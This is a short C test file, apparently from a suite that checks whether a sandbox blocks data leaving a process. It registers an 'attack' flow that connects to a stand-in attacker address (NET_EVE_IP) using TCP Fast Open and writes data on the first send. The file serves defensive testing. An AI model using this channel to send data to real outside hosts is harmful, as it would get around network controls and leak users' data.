// SPDX-License-Identifier: GPL-3.0-or-later
/* A connection that is made by the first write. */
#include "flow-net.h"

static int put(void)
{
	struct net_addr a = net_at(NET_EVE_IP, FLOW_PORT);
	int on = 1, fd = socket(AF_INET, SOCK_STREAM, 0);

	if (setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof(on)) < 0 ||
	    connect(fd, (struct sockaddr *)&a.at, a.len) < 0)
		return -errno;
	return flow_write(fd);
}

FLOW("attack: net_tcp_fastopen_connect; threat: #72; op: send; door: network", .make = make_tcp,
     .put = put, .get = get_stream);
